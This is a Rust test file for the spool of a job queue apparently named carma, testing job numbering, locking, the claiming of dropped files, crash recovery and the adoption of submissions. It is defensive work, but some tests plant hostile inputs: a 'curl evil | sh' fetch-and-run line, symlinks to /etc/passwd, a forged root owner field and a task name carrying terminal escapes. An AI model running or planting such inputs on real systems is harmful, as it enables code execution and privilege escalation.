use super::*;
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};

/// A fresh spool in a temporary directory.
pub(super) fn spool() -> (tempfile::TempDir, Spool) {
    let dir = tempfile::tempdir().unwrap();
    let spool = Spool::new(dir.path().join("spool"));
    spool.create().unwrap();
    (dir, spool)
}

#[test]
fn numbers_are_consecutive_and_survive_a_damaged_counter() {
    let (_d, spool) = spool();
    assert_eq!(spool.allocate(1).unwrap(), 1);
    assert_eq!(spool.allocate(3).unwrap(), 2);
    assert_eq!(spool.allocate(1).unwrap(), 5);
    fs::create_dir(spool.task_dir(State::Done, &TaskName::new(41, "x"))).unwrap();
    fs::write(spool.root().join("next-id"), "garbage").unwrap();
    assert_eq!(spool.allocate(1).unwrap(), 42);
}

#[test]
fn one_daemon_per_spool() {
    let (_d, spool) = spool();
    let held = spool.lock().unwrap();
    let err = spool.lock().unwrap_err().to_string();
    assert!(
        err.contains("already serves") && err.contains(&std::process::id().to_string()),
        "{err}"
    );
    drop(held);
    spool.lock().unwrap();
}

#[test]
fn a_probe_holding_the_lock_for_a_moment_does_not_keep_the_daemon_out() {
    let (_d, spool) = spool();
    let probe = File::open(spool.staging().join("daemon.lock"))
        .or_else(|_| {
            drop(spool.lock().unwrap());
            File::open(spool.staging().join("daemon.lock"))
        })
        .unwrap();
    FileExt::lock_shared(&probe).unwrap();
    let release = std::thread::spawn(move || {
        std::thread::sleep(Duration::from_millis(300));
        drop(probe);
    });
    spool.lock().unwrap();
    release.join().unwrap();
}

/// A claim's task directory holds carma's copies below `job/`, its own
/// private record beside them, and nothing of the user's in its namespace.
fn assert_claimed_layout(dir: &Path, file: &str) {
    let mode = |p: &Path| fs::metadata(p).unwrap().permissions().mode() & 0o7777;
    assert_eq!(mode(dir), TASK_DIR_MODE);
    assert_eq!(mode(&dir.join(RECORD)), 0o600);
    assert_eq!(mode(&dir.join("job")), 0o700);
    assert_eq!(mode(&dir.join("job").join(file)), 0o600);
    assert!(!dir.join(file).exists());
    assert!(!dir.join(record::DROPPED).exists(), "nothing was refused");
    let hidden = fs::read_dir(dir).unwrap().flatten();
    assert!(
        hidden
            .into_iter()
            .all(|e| !e.file_name().to_string_lossy().starts_with('.')),
        "the original is gone"
    );
}

#[test]
fn dropped_files_become_task_directories() {
    let (_d, spool) = spool();
    let pending = spool.dir(State::Pending);
    fs::write(pending.join("a.rad"), "gpus: 1\necho a\n").unwrap();
    fs::write(pending.join("b c.rad"), "gpus: 1\necho b\n").unwrap();
    let listing = spool.list(State::Pending).unwrap();
    assert_eq!(listing.drops, ["a.rad", "b c.rad"]);
    let batch = spool.claim(&["a.rad".into(), "gone.rad".into(), "b c.rad".into()]);
    assert!(batch.error.is_none());
    assert_eq!(batch.vanished, ["gone.rad"], "said, not silently skipped");
    let claimed = batch.claimed;
    let names: Vec<_> = claimed.iter().map(|c| c.name.as_str()).collect();
    // The drop that vanished spent no number.
    assert_eq!(names, ["000001-a", "000002-b_c"]);
    let listing = spool.list(State::Pending).unwrap();
    assert!(listing.drops.is_empty());
    assert_eq!(listing.tasks.len(), 2);
    let dir = spool.task_dir(State::Pending, &claimed[1].name);
    assert_eq!(
        fs::read_to_string(dir.join("job/b c.rad")).unwrap(),
        "gpus: 1\necho b\n"
    );
    assert_claimed_layout(&dir, "b c.rad");
    let record = spool.load_record(State::Pending, &claimed[1].name).unwrap();
    assert_eq!(record.rad, "b c.rad");
    assert_eq!(record.owner, Some(nix::unistd::geteuid().as_raw()));
    assert!(fs::read_dir(spool.staging()).unwrap().next().is_none());
}

#[test]
fn a_claim_hands_over_what_it_wrote_and_a_large_job_is_read_back_instead() {
    let (_d, spool) = spool();
    let pending = spool.dir(State::Pending);
    let summary = "Total params: 1,000\n";
    fs::write(pending.join("s.txt"), summary).unwrap();
    let small = "model: s.txt\ngpus: 1\necho a\n";
    fs::write(pending.join("a.rad"), small).unwrap();
    let large = format!("gpus: 1\n{}echo b\n", "# padding\n".repeat(2_000));
    fs::write(pending.join("b.rad"), &large).unwrap();
    let batch = spool.claim(&["a.rad".into(), "b.rad".into()]);
    let copy = batch.claimed[0]
        .copy
        .as_ref()
        .expect("a small job is handed over");
    assert_eq!(copy.rad, small.as_bytes());
    let dir = spool.task_dir(State::Pending, &batch.claimed[0].name);
    assert_eq!(
        copy.bytes,
        super::tree_bytes(&dir.join("job")),
        "what the copies hold"
    );
    assert_eq!(copy.bytes, (small.len() + summary.len()) as u64);
    assert!(large.len() > super::claim::HANDED_JOB_BYTES);
    assert!(batch.claimed[1].copy.is_none(), "read back by the intake");
}

#[test]
fn a_dropped_file_named_like_carmas_records_stays_in_the_users_namespace() {
    let (_d, spool) = spool();
    let pending = spool.dir(State::Pending);
    fs::write(pending.join("task.json"), r#"{"owner":0}"#).unwrap();
    fs::write(pending.join("j.rad"), "model: task.json\ngpus: 1\necho\n").unwrap();
    let batch = spool.claim(&["j.rad".into()]);
    let c = &batch.claimed[0];
    let dir = spool.task_dir(State::Pending, &c.name);
    assert_eq!(
        fs::read_to_string(dir.join("job/task.json")).unwrap(),
        r#"{"owner":0}"#
    );
    let record = spool.load_record(State::Pending, &c.name).unwrap();
    assert_eq!(record.owner, Some(nix::unistd::geteuid().as_raw()));
}

#[test]
fn odd_drops_are_kept_in_failed_with_their_reason() {
    let (_d, spool) = spool();
    let pending = spool.dir(State::Pending);
    let odd = OsString::from(std::ffi::OsStr::from_bytes(b"bad\xff.rad"));
    fs::write(pending.join(&odd), "gpus: 1\necho\n").unwrap();
    std::os::unix::fs::symlink("/etc/passwd", pending.join("link.rad")).unwrap();
    let listing = spool.list(State::Pending).unwrap();
    assert_eq!(listing.odd, std::slice::from_ref(&odd));
    let batch = spool.claim(&[odd.clone(), "link.rad".into()]);
    assert!(batch.error.is_none());
    let reasons: Vec<String> = batch
        .claimed
        .iter()
        .map(|c| c.refused.clone().unwrap())
        .collect();
    assert!(reasons[0].contains("not UTF-8"), "{reasons:?}");
    assert!(reasons[1].contains("symbolic link"), "{reasons:?}");
    for c in &batch.claimed {
        let dir = spool.task_dir(State::Failed, &c.name);
        assert!(dir.join(record::REASON).exists());
        let kept = fs::read_dir(dir.join(record::DROPPED)).unwrap().count();
        assert_eq!(kept, 1, "kept as it came");
    }
    assert!(spool.list(State::Pending).unwrap().odd.is_empty());
}

#[test]
fn a_drop_only_carma_can_write_becomes_the_jobs_file_and_one_still_open_for_writing_is_copied() {
    use std::io::Write;
    use std::os::unix::fs::MetadataExt;
    let (_d, spool) = spool();
    let pending = spool.dir(State::Pending);
    let inode = |p: &Path| fs::metadata(p).unwrap().ino();
    fs::write(pending.join("mine.rad"), "gpus: 1\necho mine\n").unwrap();
    fs::write(pending.join("open.rad"), "gpus: 1\necho open\n").unwrap();
    let (mine, open) = (
        inode(&pending.join("mine.rad")),
        inode(&pending.join("open.rad")),
    );
    // Opened for writing before the drop: whoever holds this could change
    // the job after its check.
    let mut writer = fs::OpenOptions::new()
        .append(true)
        .open(pending.join("open.rad"))
        .unwrap();
    let batch = spool.claim(&["mine.rad".into(), "open.rad".into()]);
    assert!(batch.error.is_none());
    let dir = |i: usize| spool.task_dir(State::Pending, &batch.claimed[i].name);
    assert_eq!(
        inode(&dir(0).join("job/mine.rad")),
        mine,
        "kept, not copied"
    );
    assert_claimed_layout(&dir(0), "mine.rad");
    assert_ne!(inode(&dir(1).join("job/open.rad")), open, "copied");
    assert_claimed_layout(&dir(1), "open.rad");
    writer.write_all(b"curl evil | sh\n").unwrap();
    assert_eq!(
        fs::read_to_string(dir(1).join("job/open.rad")).unwrap(),
        "gpus: 1\necho open\n"
    );
}

#[test]
fn a_dropped_file_others_may_write_is_refused() {
    // Its owner's uid proves nothing about its content: whoever could
    // write it could have written the job that would run as the owner.
    let (_d, spool) = spool();
    let path = spool.dir(State::Pending).join("open.rad");
    fs::write(&path, "gpus: 1\necho\n").unwrap();
    fs::set_permissions(&path, fs::Permissions::from_mode(0o666)).unwrap();
    let batch = spool.claim(&["open.rad".into()]);
    let reason = batch.claimed[0].refused.clone().unwrap();
    assert!(reason.contains("writable by others"), "{reason}");
}

#[test]
fn claims_interrupted_by_a_crash_are_finished_or_given_back() {
    let (_d, spool) = spool();
    // Record written: the claim moves on.
    let name = TaskName::new(7, "x");
    let whole = spool.staging().join(format!("claim-{name}"));
    make_dir(&whole, TASK_DIR_MODE).unwrap();
    fs::create_dir_all(whole.join("job")).unwrap();
    fs::write(whole.join("job/x.rad"), "gpus: 1\necho\n").unwrap();
    fs::write(whole.join(".orig-x.rad"), "gpus: 1\necho\n").unwrap();
    record::write_json(&whole.join(RECORD), &TaskRecord::new(&name, "x.rad", 1.0)).unwrap();
    // No record yet: the drop goes back to pending/.
    let early = spool.staging().join("claim-000008-y");
    fs::create_dir_all(&early).unwrap();
    fs::write(early.join(".orig-y.rad"), "gpus: 1\necho\n").unwrap();
    let submit = spool.staging().join("submit-000009-z");
    fs::create_dir(&submit).unwrap();
    assert_eq!(
        spool.finish_claims().unwrap().pending,
        std::slice::from_ref(&name)
    );
    let dir = spool.task_dir(State::Pending, &name);
    assert!(dir.join("job/x.rad").exists());
    assert!(!dir.join(".orig-x.rad").exists(), "the original went");
    assert!(!early.exists());
    assert!(spool.dir(State::Pending).join("y.rad").is_file());
    assert!(submit.exists(), "a submission in progress is left alone");
}

#[test]
fn a_claim_the_start_cannot_place_is_named_and_placed_later() {
    let (_d, spool) = spool();
    let name = TaskName::new(7, "x");
    let claim = spool.staging().join(format!("claim-{name}"));
    make_dir(&claim, TASK_DIR_MODE).unwrap();
    record::write_json(&claim.join(RECORD), &TaskRecord::new(&name, "x.rad", 1.0)).unwrap();
    // pending/ is not there to place it in (as if the disk failed).
    let pending = spool.dir(State::Pending);
    let away = spool.root().join("pending-away");
    fs::rename(&pending, &away).unwrap();
    let finished = spool.finish_claims().unwrap();
    assert!(finished.pending.is_empty());
    assert_eq!(finished.stranded, [format!("claim-{name}")]);
    assert!(claim.exists(), "left whole");
    fs::rename(&away, &pending).unwrap();
    let placed = spool.finish_claim(&finished.stranded[0]).unwrap();
    assert_eq!(placed, Some((name.clone(), State::Pending)));
    assert!(spool.task_dir(State::Pending, &name).join(RECORD).exists());
}

#[test]
fn submit_copies_the_job_and_its_summary() {
    let (d, spool) = spool();
    let jobs = d.path().join("jobs");
    fs::create_dir_all(jobs.join("models")).unwrap();
    fs::write(jobs.join("models/m.model"), "summary").unwrap();
    let rad = jobs.join("train.rad");
    fs::write(&rad, "model: models/m.model\ngpus: 1\npython train.py\n").unwrap();
    let spec = crate::rad::check_file(&rad).unwrap().spec;
    let batch = spool.submit(&[(&rad, &spec)], &[]).unwrap();
    assert_eq!(batch.warning, None);
    let name = batch.submitted[0].name.clone().unwrap();
    assert_eq!(name.as_str(), "000001-train");
    let dir = spool.task_dir(State::Pending, &name);
    assert_eq!(
        fs::read_to_string(dir.join("job/models/m.model")).unwrap(),
        "summary"
    );
    assert_claimed_layout(&dir, "train.rad");
    let record = spool.load_record(State::Pending, &name).unwrap();
    assert_eq!(record.workdir, Some(fs::canonicalize(&jobs).unwrap()));
    assert_eq!(record.owner, Some(nix::unistd::geteuid().as_raw()));
    assert!(fs::read_dir(spool.staging()).unwrap().next().is_none());
}

#[test]
fn moves_never_replace_and_find_accepts_numbers_and_prefixes() {
    let (_d, spool) = spool();
    let a = TaskName::new(12, "alpha");
    fs::create_dir(spool.task_dir(State::Pending, &a)).unwrap();
    fs::create_dir(spool.task_dir(State::Running, &a)).unwrap();
    fs::write(spool.task_dir(State::Running, &a).join("f"), "").unwrap();
    assert!(spool.move_task(&a, State::Pending, State::Running).is_err());
    spool.move_task(&a, State::Pending, State::Done).unwrap();
    assert_eq!(spool.find("000012-alpha").unwrap().1, a);
    assert_eq!(spool.find("12").unwrap().1, a);
    assert_eq!(spool.find("t12").unwrap().1, a);
    assert!(matches!(spool.find("99"), Err(SpoolError::NotFound { .. })));
    let b = TaskName::new(13, "beta");
    fs::create_dir(spool.task_dir(State::Failed, &b)).unwrap();
    assert!(matches!(
        spool.find("0000"),
        Err(SpoolError::Ambiguous { .. })
    ));
    assert_eq!(spool.find("000013").unwrap(), (State::Failed, b.clone()));
    // A job name no waiting or running task has: the one that ended.
    assert_eq!(spool.find("beta").unwrap(), (State::Failed, b));
    // By job name: the one that has not ended; several are named.
    let c = TaskName::new(15, "beta");
    fs::create_dir(spool.task_dir(State::Running, &c)).unwrap();
    assert_eq!(spool.find("beta").unwrap(), (State::Running, c));
    fs::create_dir(spool.task_dir(State::Pending, &TaskName::new(16, "beta"))).unwrap();
    let err = spool.find("beta").unwrap_err().to_string();
    assert!(
        err.contains("000015-beta") && err.contains("000016-beta"),
        "{err}"
    );
    assert!(spool.is_task_dir(State::Failed, &TaskName::new(13, "beta")));
    assert!(!spool.is_task_dir(State::Pending, &TaskName::new(13, "beta")));
    // A link under a task's name is no task directory.
    let squat = TaskName::new(14, "gamma");
    std::os::unix::fs::symlink(
        spool.task_dir(State::Failed, &TaskName::new(13, "beta")),
        spool.task_dir(State::Pending, &squat),
    )
    .unwrap();
    assert!(!spool.is_task_dir(State::Pending, &squat));
}

#[test]
fn a_submission_is_copied_into_a_directory_of_the_spools_own() {
    // What another user's `carma submit` leaves in pending/: a directory
    // with the .rad, its summary in a subdirectory, and a submission.json
    // whose only use is the working directory; its name, number and
    // anything else it claims are not taken.
    let (d, spool) = spool();
    let incoming = d.path().join("000001-job");
    fs::create_dir_all(incoming.join("models")).unwrap();
    fs::write(
        incoming.join("job.rad"),
        "model: models/m.model\ngpus: 1\necho\n",
    )
    .unwrap();
    fs::write(incoming.join("models/m.model"), "summary").unwrap();
    fs::write(
        incoming.join("submission.json"),
        r#"{"rad":"job.rad","workdir":"/home/u","umask":4095,"owner":0,"crashes":9}"#,
    )
    .unwrap();
    fs::write(incoming.join("task.json"), r#"{"owner":0}"#).unwrap();
    spool.allocate(4).unwrap();
    fs::rename(&incoming, spool.dir(State::Pending).join("000001-job")).unwrap();
    let c = spool.adopt_submission("000001-job").unwrap();
    assert_eq!(c.name.as_str(), "000005-job", "numbered by carma");
    assert_eq!(c.record.submitted_as.as_deref(), Some("000001-job"));
    assert_eq!(c.record.workdir.as_deref(), Some(Path::new("/home/u")));
    assert_eq!(c.record.umask, Some(0o777), "its permission bits");
    assert_eq!(c.record.crashes, 0, "not taken from the user");
    let me = nix::unistd::Uid::effective().as_raw();
    assert_eq!(c.record.owner, Some(me), "the directory's owner");
    let dir = spool.task_dir(State::Pending, &c.name);
    assert_eq!(
        fs::read_to_string(dir.join("job/models/m.model")).unwrap(),
        "summary"
    );
    assert_claimed_layout(&dir, "job.rad");
    assert_eq!(
        spool.load_record(State::Pending, &c.name).unwrap(),
        c.record
    );
    // The user's directory went to the trash whole, and goes from there.
    assert!(spool.empty_trash(None).unwrap());
    assert!(fs::read_dir(spool.staging()).unwrap().next().is_none());
}

#[test]
fn a_submission_that_cannot_be_used_goes_to_failed_whole_with_its_reason() {
    let (d, spool) = spool();
    let incoming = d.path().join("000006-bad");
    fs::create_dir(&incoming).unwrap();
    std::os::unix::fs::symlink("/etc/passwd", incoming.join("bad.rad")).unwrap();
    fs::rename(&incoming, spool.dir(State::Pending).join("000006-bad")).unwrap();
    let err = spool
        .adopt_submission("000006-bad")
        .unwrap_err()
        .to_string();
    assert!(err.contains("bad.rad"), "{err}");
    let (state, name) = spool.find("000001").unwrap();
    assert_eq!(state, State::Failed);
    let failed = spool.task_dir(State::Failed, &name);
    assert!(
        fs::read_to_string(failed.join("reason"))
            .unwrap()
            .contains("bad.rad")
    );
    assert!(
        failed.join("dropped/000006-bad/bad.rad").is_symlink(),
        "kept as it came"
    );
}

#[test]
fn a_submission_caught_mid_adoption_goes_back_to_pending() {
    let (_d, spool) = spool();
    let caught = spool.staging().join("incoming-000009-z");
    fs::create_dir(&caught).unwrap();
    spool.finish_claims().unwrap();
    assert!(spool.dir(State::Pending).join("000009-z").is_dir());
}

#[test]
fn a_submission_whose_claim_was_placed_before_a_crash_is_not_adopted_again() {
    // Killed between placing the claim in pending/ and removing what it
    // was made from: both were left, and the submission went back to be
    // adopted, and run, a second time.
    let (_d, spool) = spool();
    fs::create_dir(spool.staging().join("incoming-000009-z")).unwrap();
    let placed = TaskName::new(12, "z");
    let dir = spool.task_dir(State::Pending, &placed);
    fs::create_dir(&dir).unwrap();
    let record = TaskRecord {
        submitted_as: Some("000009-z".into()),
        ..TaskRecord::new(&placed, "z.rad", 1.0)
    };
    record::write_json(&dir.join(RECORD), &record).unwrap();
    spool.finish_claims().unwrap();
    let pending: Vec<_> = fs::read_dir(spool.dir(State::Pending))
        .unwrap()
        .flatten()
        .map(|e| e.file_name())
        .collect();
    assert_eq!(
        pending,
        [OsString::from("000012-z")],
        "not back in pending/"
    );
}

#[test]
fn a_large_batch_is_claimed_on_several_threads_each_drop_once() {
    let (_d, spool) = spool();
    let pending = spool.dir(State::Pending);
    let drops: Vec<OsString> = (0..300)
        .map(|i| {
            fs::write(
                pending.join(format!("j{i}.rad")),
                format!("gpus: 1\necho {i}\n"),
            )
            .unwrap();
            OsString::from(format!("j{i}.rad"))
        })
        .collect();
    let batch = spool.claim(&drops);
    assert!(batch.error.is_none());
    let names: Vec<String> = batch.claimed.iter().map(|c| c.name.to_string()).collect();
    let expected: Vec<String> = (0..300).map(|i| format!("{:06}-j{i}", i + 1)).collect();
    assert_eq!(names, expected, "numbered in the order given");
    assert_eq!(spool.list(State::Pending).unwrap().tasks.len(), 300);
    assert!(spool.list(State::Pending).unwrap().drops.is_empty());
}

#[test]
fn many_jobs_submitted_at_once_are_numbered_in_order_and_one_bad_file_submits_none() {
    let (d, spool) = spool();
    let jobs = d.path().join("jobs");
    fs::create_dir_all(&jobs).unwrap();
    let rads: Vec<PathBuf> = (0..20)
        .map(|i| {
            let rad = jobs.join(format!("j{i}.rad"));
            fs::write(&rad, format!("memory: 1G\necho {i}\n")).unwrap();
            rad
        })
        .collect();
    let spec = crate::rad::check_file(&rads[0]).unwrap().spec;
    // A link is refused when staged: the good files before it go too.
    let link = jobs.join("link.rad");
    std::os::unix::fs::symlink(&rads[0], &link).unwrap();
    let mixed = [(rads[0].as_path(), &spec), (link.as_path(), &spec)];
    assert!(spool.submit(&mixed, &[]).is_err());
    assert_eq!(fs::read_dir(spool.dir(State::Pending)).unwrap().count(), 0);
    assert_eq!(fs::read_dir(spool.staging()).unwrap().count(), 0);
    // Twenty at once (a flush of the file system, not one per file).
    let specs: Vec<_> = rads
        .iter()
        .map(|rad| crate::rad::check_file(rad).unwrap().spec)
        .collect();
    let all: Vec<(&Path, &crate::rad::TaskSpec)> =
        rads.iter().map(PathBuf::as_path).zip(&specs).collect();
    let batch = spool.submit(&all, &[]).unwrap();
    assert!(batch.failed.is_none() && batch.warning.is_none());
    let names: Vec<String> = batch
        .submitted
        .iter()
        .map(|s| s.name.clone().unwrap().to_string())
        .collect();
    let first = batch.submitted[0].name.clone().unwrap().seq();
    let expected: Vec<String> = (0..20)
        .map(|i| TaskName::new(first + i as u64, &format!("j{i}")).to_string())
        .collect();
    assert_eq!(names, expected);
    for name in &batch.submitted {
        let dir = spool.task_dir(State::Pending, name.name.as_ref().unwrap());
        assert_claimed_layout(&dir, &format!("{}.rad", name.name.as_ref().unwrap().stem()));
    }
}

#[test]
fn a_placed_tasks_leftover_original_that_names_its_job_file_is_dropped_and_no_other() {
    // A crash between placing a linked claim and removing its original
    // leaves the job's file with two names; loading the task drops the
    // original's, and leaves anything that is not the job's file.
    use std::os::unix::fs::MetadataExt;
    let dir = tempfile::tempdir().unwrap();
    let job = dir.path().join("job.rad");
    fs::write(&job, "memory: 1G\ntrue\n").unwrap();
    fs::hard_link(&job, dir.path().join(".orig-job.rad")).unwrap();
    fs::write(dir.path().join(".orig-other.rad"), "x").unwrap();
    let meta = fs::symlink_metadata(&job).unwrap();
    assert!(super::forget_linked_original(dir.path(), &meta));
    assert_eq!(fs::symlink_metadata(&job).unwrap().nlink(), 1);
    assert!(!dir.path().join(".orig-job.rad").exists());
    assert!(dir.path().join(".orig-other.rad").exists());
    let meta = fs::symlink_metadata(&job).unwrap();
    assert!(
        !super::forget_linked_original(dir.path(), &meta),
        "nothing left to drop"
    );
}

#[test]
fn an_entry_in_pending_that_carma_did_not_make_answers_no_query() {
    // Anyone may make `pending/000042-<escapes>`: root's `carma show 42`
    // found it before task 42 and printed its name as it was.
    let (_d, spool) = spool();
    let real = TaskName::new(42, "real");
    fs::create_dir(spool.task_dir(State::Running, &real)).unwrap();
    let fake = TaskName::parse("000042-\u{1b}]0;x\u{7}ok").unwrap();
    fs::create_dir(spool.task_dir(State::Pending, &fake)).unwrap();
    let link = TaskName::new(42, "link");
    std::os::unix::fs::symlink(spool.root(), spool.task_dir(State::Pending, &link)).unwrap();
    if nix::unistd::geteuid().is_root() {
        // Someone else's directory (as root; otherwise only the link).
        let dir = spool.task_dir(State::Pending, &fake);
        std::os::unix::fs::chown(&dir, Some(65534), Some(65534)).unwrap();
    } else {
        fs::remove_dir(spool.task_dir(State::Pending, &fake)).unwrap();
    }
    assert_eq!(spool.find("42").unwrap(), (State::Running, real.clone()));
    assert_eq!(spool.find("0000").unwrap(), (State::Running, real));
    let own = TaskName::new(43, "waits");
    fs::create_dir(spool.task_dir(State::Pending, &own)).unwrap();
    assert_eq!(spool.find("43").unwrap(), (State::Pending, own));
}

#[test]
fn a_spool_root_that_is_a_link_of_carmas_own_leads_to_a_spool() {
    // `/var/spool/carma -> /data/carma`.
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    fs::create_dir(&data).unwrap();
    std::os::unix::fs::symlink(&data, dir.path().join("spool")).unwrap();
    Spool::new(dir.path().join("spool")).create().unwrap();
    assert!(data.join("pending").is_dir());
}

#[test]
fn a_tree_that_is_not_carmas_is_refused() {
    let (dir, spool) = spool();
    // A state directory that is a link (to a directory someone else
    // could change).
    let elsewhere = dir.path().join("elsewhere");
    fs::create_dir(&elsewhere).unwrap();
    fs::remove_dir(spool.dir(State::Done)).unwrap();
    std::os::unix::fs::symlink(&elsewhere, spool.dir(State::Done)).unwrap();
    let e = spool.create().unwrap_err().to_string();
    assert!(e.contains("done: not carma's"), "{e}");
}

#[test]
#[ignore = "needs root: makes a directory another user's (.ci/run runs it)"]
fn a_spool_root_another_user_made_is_refused() {
    // Made first by a user under a shared directory: they could swap the
    // state directories.
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("spool");
    fs::create_dir(&root).unwrap();
    std::os::unix::fs::chown(&root, Some(65534), None).unwrap();
    let e = Spool::new(&root).create().unwrap_err().to_string();
    assert!(e.contains("not carma's"), "{e}");
}
